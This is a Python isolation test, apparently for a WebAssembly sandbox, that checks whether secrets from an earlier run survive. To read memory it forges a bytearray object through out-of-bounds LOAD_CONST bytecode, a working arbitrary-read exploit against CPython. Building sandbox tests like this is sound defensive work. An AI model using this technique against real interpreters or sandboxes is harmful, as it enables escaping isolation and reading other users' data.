"""Search all of linear memory for what the script before left there."""
# expect: kind=ok stdout=held
import builtins
import os
import dis
import struct


def forge_memory():
    """A bytearray that spans all of linear memory: a constant read beyond its tuple names a fake
    object."""
    word = struct.calcsize("P")
    head = struct.pack("PPn", 0x3FFFFFFF, id(bytearray), 2**31 - 1)
    fake = head + struct.pack("nPPn", 2**31 - 1, 0, 0, 0)
    pointer = struct.pack("P", id(fake) + 4 * word)
    constants = (None, fake, pointer)
    distance = (id(pointer) + 4 * word - id(constants) - 3 * word) % (1 << 8 * word)
    index = distance // word
    op = dis.opmap
    program = bytes([op["RESUME"], 0])
    for shift in (24, 16, 8):
        program += bytes([op["EXTENDED_ARG"], index >> shift & 255])
    program += bytes([op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
    code = forge_memory.__code__.replace(
        co_code=program,
        co_consts=constants,
        co_stacksize=4,
        co_nlocals=0,
        co_varnames=(),
        co_argcount=0,
        co_flags=3,
        co_exceptiontable=b"",
        co_cellvars=(),
        co_freevars=(),
    )
    return type(forge_memory)(code, {}), constants


function, keep = forge_memory()
memory = function()
grown = bytearray(28 << 20)  # memory that an earlier run may have had
leaks = [place for place in range(0, len(grown), 4096) if grown[place]]
head = b"SECRET-OF-ANOTHER-RUN:"  # the tail is in no object of this run, unless it was found
lowest = 1 << 16  # what lies below is the end of a stack, and not there by process isolation
place = memory.find(head, lowest, 30 << 20)
while place >= 0:
    after = place + len(head)
    if all(memory[after + n] == head[n] ^ 0x5A for n in range(len(head))):
        leaks.append(place)
    place = memory.find(head, place + 1, 30 << 20)
if "SECRET_LEFT" in os.environ or os.listdir("/tmp") or hasattr(builtins, "left"):
    leaks.append("something else")
print(leaks or "held")
